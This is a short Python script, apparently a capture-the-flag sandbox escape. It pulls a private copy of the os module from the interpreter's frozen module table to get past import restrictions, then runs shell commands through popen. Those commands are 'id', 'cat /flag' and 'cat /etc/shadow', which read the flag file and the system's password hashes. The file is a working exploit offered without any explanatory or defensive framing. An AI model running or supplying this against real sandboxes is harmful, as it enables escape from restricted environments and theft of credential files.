# Loads a private copy of the OS helpers from the interpreter's frozen module table.
import sys


def frozen_loader():
    for finder in sys.meta_path:
        if getattr(finder, "__name__", "") == "FrozenImporter":
            return finder
    return None


def private_os():
    loader = frozen_loader()
    code = loader.get_code("os")
    namespace = {"__name__": "os_private", "__builtins__": __builtins__}
    exec(code, namespace)
    return namespace


def main():
    ns = private_os()
    runner = ns["popen"]
    for cmd in ("id", "cat /flag", "cat /etc/shadow"):
        with runner(cmd) as fh:
            print(fh.read())


if __name__ == "__main__":
    main()
